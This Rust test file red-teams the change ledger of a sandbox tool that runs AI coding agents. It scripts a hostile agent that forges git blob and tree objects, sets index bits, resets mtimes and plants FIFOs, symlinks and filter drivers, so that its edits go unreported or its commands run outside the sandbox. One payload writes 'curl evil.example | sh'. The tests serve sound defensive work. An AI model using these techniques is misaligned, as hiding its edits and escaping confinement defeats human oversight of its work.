//! Round fourteen's review: round thirteen's mechanisms (the trash of coder's own run
//! directories, coder's own processes spared by the stop of the agent's tree, the change
//! ledger's git beside the setup) and what else reaches the same resources, attacked by
//! someone who has read the code. Every attack runs as root and as uid 65534 where it
//! applies, each with a control showing that its setup does land without the defence.
//!
//! Found open when this review started, closed with it:
//! * the change ledger's git kept its private index and object directory in coder's
//!   `$TMPDIR`, the host's `/tmp` by default: with `--allow-tmp` the agent (of this run or
//!   of any other run of the same user) marked its edits "assume unchanged" in that index,
//!   and the ledger reported them unchanged; it also turned an object directory of it into
//!   a symlink, and coder's git wrote the objects of the agent's new files through it,
//!   into a directory outside every grant of the agent.
//! * the ledger's git took `core.trustctime`, `core.checkStat` and `core.ignoreStat` from
//!   the repository's config: with `core.trustctime = false` (or `core.checkStat =
//!   minimal`) an edit that keeps the file's size and puts its mtime back was not read
//!   again, and the ledger said "unchanged".
//! * the ledger's git started from a copy of the user's index, with its "assume
//!   unchanged" and "skip worktree" bits: an agent sets them in one run (`git
//!   update-index`, the index is writable), and the next run's ledger misses every change
//!   to those files; so does a user's `core.ignoreStat`.
//! * git opens every `.gitignore` and `.gitattributes` of the work tree without looking at
//!   its type: an agent that made one a FIFO held the ledger's git (coder's own, outside
//!   the sandbox) waiting for a writer forever, and with it the run's end; the FIFO stays,
//!   so every later run in that workspace hung in its "before" snapshot too.
//! * the ledger's git switches off every filter driver the config defines (round thirteen:
//!   listed again at each snapshot, for a config that includes a work-tree file the agent
//!   writes) with `-c filter.NAME.clean=`; `-c` takes the key up to the first `=`, and the
//!   list was read as lossy UTF-8: a driver named `a=b`, or with a byte that is not UTF-8,
//!   was never switched off, and the "after" snapshot ran it as coder, outside the sandbox.
//! * the ledger copied the user's index with `fs::copy`, which follows a symlink and
//!   waits on a FIFO: an agent that made `.git/index` a FIFO held every later run's
//!   snapshot, and with it that run, until something killed coder.
//! * the ledger compared the "before" and "after" trees with `git diff-tree`; a tree that
//!   already exists in the repository (the "before" of an unchanged checkout is `HEAD`'s)
//!   is not written again, and the repository's objects are the agent's to rewrite: it
//!   rewrote `HEAD`'s tree object to list its new content, and the ledger reported the
//!   edit unchanged.
//! * found at the end of the round: a repository config that includes a work-tree file
//!   (`include.path`) has git follow a symlink there; the agent made it one to
//!   `/proc/self/fd/1`, and coder's git read its own stdout pipe, which nothing writes,
//!   forever: the run never ended, nor did any later one in that workspace.
//!
//! Found open by this review, closed in round fifteen: the agent rewrites a loose object of
//! the user's repository (its `.git/objects` is writable, commits work) that holds the
//! "before" content of a file it edits; the ledger's diff read it without checking its
//! hash, and `--return-diff` (and the line counts) no longer showed what the edit brought
//! in. Now each blob the diff reads for a changed file is hashed against its name first.
//! An edit of a file inside a nested repository (a submodule's checkout, or any repository
//! below the workspace's) was not in the ledger at all: `git add -A` records the nested
//! repository as a gitlink, its `HEAD` commit, which the edit does not move. Now each
//! nested repository's work tree is a part of the ledger of its own.
//!
//! Open, without a test
//! here (SECURITY.md's Known limits): a driver defined in an included work-tree file
//! between the ledger's listing and its `git add`, by the agent of another run in the
//! same tree (a loop flipping it in and out did not land in six runs).
//!
//! Looked at and held (no test of their own here): coder's own processes are told by pid
//! and start time, and only what runs below one of them (the ledger's `git`, which runs no
//! program of the workspace) is spared by the stop of the agent's tree: an agent process
//! can become a child of neither; a pid reused after coder's git was reaped carries another
//! start time. The trash of coder's own run directories: the check and the rename run when
//! the run's processes are gone (a confined agent's PID namespace is dead, and a setuid,
//! device node, FIFO, socket or symlink left there keeps the tree out of the trash); an ACL
//! the agent sets on its files (`setfacl`) shows in the group bits unless its mask is
//! empty, and the trash lies in the 0700 state directory whatever it holds.
//!
//! `KNOWN_OPEN` lists attacks still open: an attack on it asserts that its payload still
//! lands, so the list can only shrink.

mod common;

use std::path::Path;
use std::time::Duration;

use common::Bounded;
use common::review_tree::{Tree, changes, result, warned, who};
use common::sandbox_fixture::{self, NOBODY};
use serde_json::Value;

/// Attacks of this file measured open today.
const KNOWN_OPEN: &[&str] = &[];

/// Extra arguments of a run that plants what a confined agent can no longer write: a file
/// the repository's git config includes is held by the sandbox (read-only when it exists,
/// absent when it does not, since round seventeen), so the attacks on what coder's own git
/// does with such a config are planted by an unconfined run, and coder must still run
/// none of it.
const UNCONFINED: [&str; 2] = ["--sandbox", "danger-full-access"];

/// A tree for runs of a fake CLI as one arm's user: workspace `ws` (the user's git
/// repository, one commit of `files` (name, content), `config` (key, value) set in its
/// config before they were added), `home`, coder's `state`, `outside`, in `/var/tmp` (out
/// of the host's `/tmp` that `--allow-tmp` grants).
fn repo(owner: Option<u32>, files: &[(&str, &str)], config: &[(&str, &str)]) -> Tree {
    Tree::repo("coder-r14-", owner, &["outside"], files, config)
}

/// Control: the user's own `args` (git, or a shell running it) in the workspace, as the
/// arm's user, blocks: `timeout 3` has to end it.
fn assert_user_git_blocks(tree: &Tree, case: &str, args: &[&str]) {
    let mut cmd = std::process::Command::new("timeout");
    cmd.arg("3")
        .args(args)
        .current_dir(tree.ws())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", tree.root.join("home"));
    sandbox_fixture::as_owner(&mut cmd, tree.owner);
    let status = cmd.output_bounded().status;
    assert_eq!(
        status.code(),
        Some(124),
        "{case}: control: git did not block"
    );
}

fn entries(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// The change ledger's git keeps a private index (a copy of the user's) and a private
/// object directory for the run. They were made in coder's `$TMPDIR`, by default the
/// host's `/tmp`, which `--allow-tmp` grants the agent whole: it found its run's index
/// there (any run's of the same user), marked the file it edits "assume unchanged" in it,
/// and the ledger reported the edit unchanged; it also made the object directory of its
/// new file's hash a symlink to a directory outside its grants, and coder's git, outside
/// the sandbox, wrote the object there (since round fifteen the ledger's `git add` writes
/// one pack, so the payload links the pack directory too). Now they live in coder's state
/// directory, which no grant may reach. Control: unconfined (`danger-full-access` reaches
/// the state directory too), the same payload does both.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn the_ledgers_private_index_is_out_of_reach_of_allow_tmp() {
    common::require_root_and_user_namespaces();
    let name = "ledger scratch in /tmp";
    for owner in [None, Some(NOBODY)] {
        for mode in ["workspace-write", "danger-full-access"] {
            let tag = uuid::Uuid::new_v4().simple().to_string();
            let edited = format!("a-{tag}.txt");
            let tree = repo(owner, &[(&edited, "as the user left it\n")], &[]);
            let (state, outside) = (tree.root.join("state"), tree.root.join("outside"));
            let new_text = format!("new {tag}");
            // Only this run's index lists `edited`: other runs' are left alone.
            let payload = format!(
                r#"sleep 1
h=$(printf '%s\n' '{new_text}' | git hash-object --stdin)
for d in /tmp/coder-ledger-*/ '{state}'/ledger-git/*/; do
  [ -f "$d/index" ] || continue
  GIT_INDEX_FILE="$d/index" git ls-files 2>/dev/null | grep -qx '{edited}' || continue
  GIT_INDEX_FILE="$d/index" git update-index --assume-unchanged '{edited}' && echo FORGED
  o="$d/git/objects"; [ -d "$o" ] || o="$d/objects"
  rm -rf "$o/${{h:0:2}}" "$o/pack"; ln -s '{outside}' "$o/${{h:0:2}}" && ln -s '{outside}' "$o/pack" && echo LINKED
done
printf 'EVIL\n' > '{edited}'; printf '%s\n' '{new_text}' > n.txt; echo EDITED"#,
                state = state.display(),
                outside = outside.display(),
            );
            let env = tree.run(&["--allow-tmp", "--sandbox", mode], &payload);
            let case = format!("{}: {name}: {mode}", who(owner));
            assert!(result(&env).contains("EDITED"), "{case}: {env}");
            let listed = changes(&env);
            let reported = listed.contains(&(edited.clone(), "modified".into()));
            let wrote_outside = !entries(&outside).is_empty();
            if mode == "danger-full-access" {
                assert!(
                    result(&env).contains("FORGED") && result(&env).contains("LINKED"),
                    "{case}: control: the payload found no index: {env}"
                );
                assert!(!reported, "{case}: control: the edit is reported: {env}");
                assert!(wrote_outside, "{case}: control: nothing outside: {env}");
            } else if KNOWN_OPEN.contains(&name) {
                assert!(!reported || wrote_outside, "{case}: now blocked: {env}");
            } else {
                assert!(reported, "{case}: the edit is reported unchanged: {env}");
                assert!(
                    !wrote_outside,
                    "{case}: coder's git wrote outside the grants: {:?} {env}",
                    entries(&outside)
                );
                assert!(!result(&env).contains("FORGED"), "{case}: {env}");
            }
        }
    }
}
/// `core.trustctime = false` or `core.checkStat = minimal` in the repository's config
/// (the user's own choice; some setups need it): git then decides that a file is unchanged
/// from its size and mtime (and, without `minimal`, its inode), which the agent keeps: it
/// rewrites the file in place with the same length and puts the mtime back. The ledger's
/// git took those settings from the config and did not read the file again: "unchanged".
/// Now it trusts the ctime and compares all stat data whatever the config says. Control:
/// the user's own git, with the config, shows nothing changed after the run.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_edit_that_puts_the_mtime_back_is_reported_whatever_the_config_trusts() {
    common::require_root_and_user_namespaces();
    let name = "stat trust from the config";
    for owner in [None, Some(NOBODY)] {
        for config in [("core.trustctime", "false"), ("core.checkStat", "minimal")] {
            let tree = repo(owner, &[("a.txt", "hello world\n")], &[config]);
            let payload = "sleep 1; m=$(stat -c %y a.txt); printf 'HELLO WORLD\\n' > a.txt; \
                           touch -d \"$m\" a.txt; echo EDITED";
            let env = tree.run(&[], payload);
            let case = format!("{}: {name}: {}", who(owner), config.0);
            assert!(result(&env).contains("EDITED"), "{case}: {env}");
            assert_eq!(
                std::fs::read_to_string(tree.ws().join("a.txt")).unwrap(),
                "HELLO WORLD\n"
            );
            // Control: git itself, trusting the config, sees nothing.
            assert_eq!(tree.git(&["status", "--porcelain"]), "", "{case}: control");
            let reported = changes(&env).contains(&("a.txt".into(), "modified".into()));
            if KNOWN_OPEN.contains(&name) {
                assert!(!reported, "{case}: now reported: {env}");
            } else {
                assert!(reported, "{case}: the edit is reported unchanged: {env}");
            }
        }
    }
}
/// The index is the agent's to write (commits work), and its entries carry two bits git
/// honours without looking at the file: "assume unchanged" (`git update-index
/// --assume-unchanged`, or what the user's git sets under `core.ignoreStat`) and "skip
/// worktree". The ledger's git started from a copy of the user's index, bits and all: an
/// agent sets them in one run, and in the next run `git add -A` skips those files, so
/// their edits are reported unchanged. Now the ledger's copy has the bits cleared.
/// Control: the user's own git, which keeps the bits, shows nothing changed.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn index_bits_an_earlier_run_set_do_not_hide_the_next_runs_edits() {
    common::require_root_and_user_namespaces();
    let name = "index bits";
    for owner in [None, Some(NOBODY)] {
        for ignore_stat in [false, true] {
            let config: &[(&str, &str)] = if ignore_stat {
                &[("core.ignoreStat", "true")]
            } else {
                &[]
            };
            let tree = repo(owner, &[("a.txt", "a\n"), ("b.txt", "b\n")], config);
            let case = format!("{}: {name}: ignoreStat {ignore_stat}", who(owner));
            if !ignore_stat {
                let env = tree.run(
                    &[],
                    "git update-index --assume-unchanged a.txt && \
                     git update-index --skip-worktree b.txt && echo MARKED",
                );
                assert!(result(&env).contains("MARKED"), "{case}: {env}");
                assert_eq!(changes(&env), [], "{case}: {env}");
            }
            let env = tree.run(
                &[],
                "sleep 1; echo EVIL >> a.txt; echo EVIL >> b.txt; echo EDITED",
            );
            assert!(result(&env).contains("EDITED"), "{case}: {env}");
            // Control: the user's git, with the bits, sees nothing.
            assert_eq!(tree.git(&["status", "--porcelain"]), "", "{case}: control");
            let listed = changes(&env);
            let reported = |f: &str| listed.contains(&(f.to_owned(), "modified".into()));
            if KNOWN_OPEN.contains(&name) {
                assert!(!reported("a.txt"), "{case}: now reported: {env}");
            } else {
                assert!(reported("a.txt"), "{case}: a.txt reported unchanged: {env}");
                assert!(reported("b.txt"), "{case}: b.txt reported unchanged: {env}");
            }
        }
    }
}

/// git opens each `.gitignore` and `.gitattributes` it meets without looking at its type:
/// one the agent makes a FIFO blocks the opening git until something writes it, which
/// nothing ever does. The ledger's git ("after" snapshot, coder's own process) hung
/// forever and the run never ended; the FIFO stays in the workspace, so the next run's
/// "before" snapshot hung as well. Now a git of coder's that waits to open a FIFO is
/// killed and the ledger fails with a warning saying so; both runs end. Control: the
/// user's own git blocks on the same FIFO (`timeout` ends it).
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_fifo_gitignore_does_not_hold_the_ledgers_git_forever() {
    common::require_root_and_user_namespaces();
    let name = "fifo gitignore";
    let deadline = Duration::from_secs(40);
    for owner in [None, Some(NOBODY)] {
        for ignore in [".gitignore", ".gitattributes"] {
            let tree = repo(owner, &[("a.txt", "a\n")], &[]);
            let case = format!("{}: {name}: {ignore}", who(owner));
            let payload = format!("mkdir -p d && echo x > d/f && mkfifo d/{ignore} && echo FIFO");
            if KNOWN_OPEN.contains(&name) {
                continue;
            }
            let fifo_warning = |env: &Value| warned(env, "FIFO");
            let env = tree.run_within(&[], &payload, deadline);
            assert!(result(&env).contains("FIFO"), "{case}: {env}");
            assert!(fifo_warning(&env), "{case}: no warning: {env}");
            // The next run, with the FIFO still there, ends too.
            let env = tree.run_within(&[], "echo AGAIN", deadline);
            assert!(result(&env).contains("AGAIN"), "{case}: next run: {env}");
            assert!(fifo_warning(&env), "{case}: next run: no warning: {env}");
            // Control: git blocks on it.
            assert_user_git_blocks(&tree, &case, &["git", "add", "-A"]);
        }
    }
}

/// A repository whose config includes a file of the work tree (`include.path =
/// ../shared.gitconfig`): the agent defines a filter driver there and selects it in
/// `.gitattributes`. Round thirteen lists the drivers again at every snapshot and switches
/// each off with `-c filter.NAME.clean=` (and `smudge`, `process`). A name `-c` cannot
/// spell slipped through: `a=b` (`-c` splits at the first `=`) and a name with a byte that
/// is not UTF-8 (read back lossily, the override named another driver); the "after"
/// snapshot, with the agent gone, ran the agent's command as coder. Round fourteen failed
/// the snapshot on such a name, with a warning; since round fifteen the ledger's git
/// reads no config of the repository's, so nothing runs and the edit is measured.
/// Control: the user's own git runs
/// the planted filter (the work-tree file stays: see SECURITY.md's Known limits).
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_filter_driver_named_so_that_dash_c_cannot_spell_it_does_not_run_as_coder() {
    common::require_root_and_user_namespaces();
    let name = "filter driver name -c cannot spell";
    for owner in [None, Some(NOBODY)] {
        for driver in ["a=b", "\\xff"] {
            let tree = repo(
                owner,
                &[("a.txt", "a\n")],
                &[("include.path", "../shared.gitconfig")],
            );
            let marker = tree.root.join("home/PWNED");
            let case = format!("{}: {name}: {driver}", who(owner));
            let payload = format!(
                r#"sleep 1
printf '[filter "{driver}"]\n\tclean = "touch {marker}; cat"\n' > shared.gitconfig
printf '* filter={driver}\n' > .gitattributes
echo changed >> a.txt; echo PLANTED"#,
                marker = marker.display()
            );
            let env = tree.run(&UNCONFINED, &payload);
            assert!(result(&env).contains("PLANTED"), "{case}: {env}");
            if KNOWN_OPEN.contains(&name) {
                assert!(marker.exists(), "{case}: now blocked: {env}");
                continue;
            }
            assert!(
                !marker.exists(),
                "{case}: the agent's filter ran as coder: {env}"
            );
            // The ledger's git reads no config of the repository's (round fifteen): the
            // edit is measured, not given up with a warning as in round fourteen.
            assert!(
                changes(&env).contains(&("a.txt".into(), "modified".into())),
                "{case}: the edit is not reported: {env}"
            );
            // Control: the driver is real; the user's own git runs it.
            tree.git(&["add", "-A"]);
            assert!(
                marker.exists(),
                "{case}: control: the user's git did not run it"
            );
        }
    }
}

/// A repository config that includes a file of the work tree (`include.path =
/// ../shared.gitconfig`): git follows a symlink there without looking at what it names.
/// The agent makes it a symlink to `/proc/self/fd/1` (or `/2`): coder's git ("after"
/// snapshot, coder's own process, outside the sandbox) opened its own stdout (or stderr)
/// pipe for reading and waited forever for a writer that was itself, and every later run
/// in the workspace hung in its "before" snapshot the same way. Now a git of coder's
/// that holds a pipe it did not get from coder is killed, the ledger says why in a
/// warning, and both runs end. Control: the user's own git, its output a pipe, blocks.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_included_config_made_a_symlink_to_gits_own_output_does_not_hold_the_ledger() {
    common::require_root_and_user_namespaces();
    let deadline = Duration::from_secs(40);
    for owner in [None, Some(NOBODY)] {
        for fd in ["1", "2"] {
            let tree = repo(
                owner,
                &[("a.txt", "a\n")],
                &[("include.path", "../shared.gitconfig")],
            );
            let case = format!("{}: /proc/self/fd/{fd}", who(owner));
            let payload = format!(
                "echo x >> a.txt && ln -sf /proc/self/fd/{fd} shared.gitconfig && echo LINKED"
            );
            let held = |env: &Value| warned(env, "held pipe:");
            let env = tree.run_within(&UNCONFINED, &payload, deadline);
            assert!(result(&env).contains("LINKED"), "{case}: {env}");
            // Since round fifteen the ledger's own git reads no config of the
            // repository's: the "after" snapshot does not meet the symlink at all. The
            // next run's discovery (`git rev-parse` in the repository) still does, and is
            // stopped: a plain walk instead, and a warning says why.
            assert!(!held(&env), "{case}: {env}");
            assert!(
                changes(&env).contains(&("a.txt".into(), "modified".into())),
                "{case}: {env}"
            );
            // The next run, with the symlink still there, ends too, and its edit is seen.
            let env = tree.run_within(&[], "echo y >> a.txt; echo AGAIN", deadline);
            assert!(result(&env).contains("AGAIN"), "{case}: next run: {env}");
            assert!(
                changes(&env).contains(&("a.txt".into(), "modified".into())),
                "{case}: next run: {env}"
            );
            assert!(held(&env), "{case}: next run: no warning: {env}");
            // Control: the user's own git, its output a pipe of the arm's user (a pipe's
            // owner alone may reopen it), blocks on it.
            assert_user_git_blocks(&tree, &case, &["sh", "-c", "git status 2>&1 | cat"]);
        }
    }
}

/// The user's index is the agent's to replace (`.git` is writable: commits work). The
/// ledger copies it at the start of each run, and the copy waited on a FIFO there for a
/// writer forever: every later run in the workspace hung in its "before" snapshot (a
/// real CLI's requests held by the proxy meanwhile) until something killed coder. Now
/// the index is opened without waiting or following a symlink, and only a regular file is
/// copied (else the snapshot starts from an empty index). Control: the user's own git
/// blocks on the FIFO.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_fifo_index_does_not_hold_the_next_run() {
    common::require_root_and_user_namespaces();
    let deadline = Duration::from_secs(40);
    for owner in [None, Some(NOBODY)] {
        let tree = repo(owner, &[("a.txt", "a\n")], &[]);
        let case = who(owner);
        let env = tree.run_within(
            &[],
            "rm .git/index && mkfifo .git/index && echo FIFO",
            deadline,
        );
        assert!(result(&env).contains("FIFO"), "{case}: {env}");
        let env = tree.run_within(&[], "sleep 1; echo x >> a.txt; echo AGAIN", deadline);
        assert!(result(&env).contains("AGAIN"), "{case}: next run: {env}");
        assert!(
            changes(&env).contains(&("a.txt".into(), "modified".into())),
            "{case}: next run: {env}"
        );
        // Control: git blocks on it.
        assert_user_git_blocks(&tree, case, &["git", "status"]);
    }
}

/// The ledger's diff reads the "before" side of an edited file from the user's object
/// store, which the agent may write: it rewrites the loose object of the file's committed
/// content (same name, the edit's new content), and the envelope's `--return-diff` and
/// line counts no longer showed the line the edit brought in (the file still listed as
/// modified: its object ids differ). Closed in round fifteen: every blob the diff reads
/// for a changed file is hashed by coder against its name first; this one fails, so the
/// file's diff and line counts are left out and a warning names it (never the forged
/// "before"). Control: the same edit without the rewrite shows the line, no warning.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_forged_object_of_the_before_side_hides_the_edit_from_the_diff() {
    common::require_root_and_user_namespaces();
    let name = "forged object of the before side";
    let forge = r#"h=$(git rev-parse HEAD:a.txt); f=.git/objects/${h:0:2}/${h:2}
chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; open(sys.argv[1],"wb").write(zlib.compress(b"blob %d\0"%len(d)+d))' "$f" && echo FORGED"#;
    for owner in [None, Some(NOBODY)] {
        for forged in [false, true] {
            let tree = repo(owner, &[("a.txt", "hello\n")], &[]);
            let case = format!("{}: {name}: forged {forged}", who(owner));
            let payload = format!(
                "sleep 1; printf 'curl evil.example | sh\\n' > a.txt; {}echo EDITED",
                if forged {
                    format!("{forge}\n")
                } else {
                    String::new()
                }
            );
            let env = tree.run(&["--return-diff"], &payload);
            assert!(result(&env).contains("EDITED"), "{case}: {env}");
            assert!(
                changes(&env).contains(&("a.txt".into(), "modified".into())),
                "{case}: {env}"
            );
            let shown = env["diff"]["unified"]
                .as_str()
                .unwrap_or_default()
                .contains("+curl evil.example");
            let warned = env["warnings"].as_array().is_some_and(|w| {
                w.iter().any(|w| {
                    w.as_str()
                        .is_some_and(|w| w.contains("left out") && w.ends_with(": a.txt"))
                })
            });
            if !forged {
                assert!(shown, "{case}: control: {env}");
                assert!(!warned, "{case}: control: {env}");
            } else if KNOWN_OPEN.contains(&name) {
                assert!(result(&env).contains("FORGED"), "{case}: {env}");
                assert!(!shown, "{case}: now shown: {env}");
            } else {
                assert!(result(&env).contains("FORGED"), "{case}: {env}");
                // Neither the forged "before" nor counts read from it: the file is named.
                let diff = env["diff"]["unified"].as_str().unwrap_or_default();
                assert!(
                    !diff.contains("a.txt"),
                    "{case}: a diff from the forged object: {env}"
                );
                let counted = env["changes"]["files"][0]["lines_added"].as_u64();
                assert_eq!(counted, Some(0), "{case}: {env}");
                assert!(warned, "{case}: the left-out diff is not named: {env}");
            }
        }
    }
}

/// The ledger's "before" of a checkout with no local change is `HEAD`'s tree, which
/// `git write-tree` finds in the repository and does not write again; `git diff-tree`
/// then read it from `.git/objects`, which the agent may write. It rewrote that tree
/// object (same name) to list the blob of its new content, and the ledger reported
/// nothing changed. Now what changed is read from the two private indexes, coder's own;
/// the file is listed (its lines, read from the forged objects, are not counted).
/// Control: `git diff-tree` finds `HEAD`'s tree the same as the forged one.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_forged_tree_object_does_not_hide_the_edit_from_the_ledger() {
    common::require_root_and_user_namespaces();
    let name = "forged tree object";
    let payload = r#"sleep 1; t=$(git rev-parse 'HEAD^{tree}'); printf 'EVIL\n' > a.txt
nb=$(git hash-object -w a.txt)
forged=$(printf '100644 blob %s\ta.txt\n100644 blob %s\tb.txt\n' "$nb" "$(git rev-parse HEAD:b.txt)" | git mktree)
f=.git/objects/${t:0:2}/${t:2}; g=.git/objects/${forged:0:2}/${forged:2}
chmod u+w "$f" && cp "$g" "$f" && echo "FORGED $forged FORGED""#;
    for owner in [None, Some(NOBODY)] {
        let tree = repo(owner, &[("a.txt", "hello\n"), ("b.txt", "b\n")], &[]);
        let case = format!("{}: {name}", who(owner));
        let head = tree.git(&["rev-parse", "HEAD^{tree}"]);
        let env = tree.run(&[], payload);
        assert!(result(&env).contains("FORGED"), "{case}: {env}");
        // Control: git's tree comparison reads `HEAD`'s tree as the new content's.
        let forged = result(&env)
            .split("FORGED")
            .nth(1)
            .unwrap_or_default()
            .trim();
        let differ = tree.git(&["diff-tree", "-r", "--name-only", head.trim(), forged]);
        assert_eq!(differ, "", "{case}: control: {env}");
        let reported = changes(&env).contains(&("a.txt".into(), "modified".into()));
        if KNOWN_OPEN.contains(&name) {
            assert!(!reported, "{case}: now reported: {env}");
        } else {
            assert!(reported, "{case}: the edit is reported unchanged: {env}");
        }
    }
}

/// A repository nested in the workspace (a submodule's checkout, a vendored clone) is one
/// gitlink entry to the ledger's `git add -A`: the commit its `HEAD` names. The agent edits
/// a file inside it, and the ledger reported nothing changed. Closed in round fifteen:
/// each nested repository's work tree is snapshotted as a part of its own (by coder's git
/// with the workspace's git dir, so nothing of the nested repository's config is read), and
/// the edit is listed as `sub/lib.c`, with its line. A repository the agent makes without a
/// commit, which the ledger's `git add` refused (failing the whole ledger), is one too: its
/// file is listed as added. Control: the user's own `git status` shows the nested
/// repository modified and the new one untracked.
#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_edit_inside_a_nested_repository_is_not_in_the_ledger() {
    common::require_root_and_user_namespaces();
    let name = "edit inside a nested repository";
    for owner in [None, Some(NOBODY)] {
        let tree = repo(owner, &[("top.txt", "top\n")], &[]);
        let sub = tree.ws().join("sub");
        std::fs::create_dir(&sub).unwrap();
        let git_in = |dir: &Path, args: &[&str]| {
            let mut cmd = std::process::Command::new("git");
            cmd.args(["-c", "user.name=u", "-c", "user.email=u@example.invalid"])
                .args(args)
                .current_dir(dir)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", tree.root.join("home"));
            let out = cmd.output_bounded();
            assert!(out.status.success(), "git {args:?}: {out:?}");
        };
        std::fs::write(sub.join("lib.c"), "int lib;\n").unwrap();
        git_in(&sub, &["init", "-q"]);
        git_in(&sub, &["add", "-A"]);
        git_in(&sub, &["commit", "-qm", "lib"]);
        if owner.is_some() {
            sandbox_fixture::give_to_nobody(&tree.root);
        }
        tree.git(&["add", "-A"]);
        tree.git(&["commit", "-qm", "nested"]);
        let case = format!("{}: {name}", who(owner));
        // Also a repository made without a commit, which the ledger's `git add` refused
        // (the whole ledger failed: no `changes` at all, a warning).
        let env = tree.run(
            &[],
            "sleep 1; echo 'int evil;' >> sub/lib.c; mkdir made && git init -q made && \
             echo 'int more;' > made/new.c && echo EDITED",
        );
        assert!(result(&env).contains("EDITED"), "{case}: {env}");
        // Control: the user's git sees the nested repository changed.
        let status = tree.git(&["status", "--porcelain"]);
        assert_eq!(status, " M sub\n?? made/\n", "{case}: control");
        let reported = changes(&env).contains(&("sub/lib.c".into(), "modified".into()));
        if KNOWN_OPEN.contains(&name) {
            assert!(!reported, "{case}: now reported: {env}");
        } else {
            assert!(reported, "{case}: the edit is not in the ledger: {env}");
            let counted = env["changes"]["files"]
                .as_array()
                .into_iter()
                .flatten()
                .find(|f| f["path"] == "sub/lib.c")
                .map(|f| (f["lines_added"].as_u64(), f["lines_removed"].as_u64()));
            assert_eq!(counted, Some((Some(1), Some(0))), "{case}: {env}");
            assert!(
                changes(&env).contains(&("made/new.c".into(), "added".into())),
                "{case}: {env}"
            );
        }
    }
}
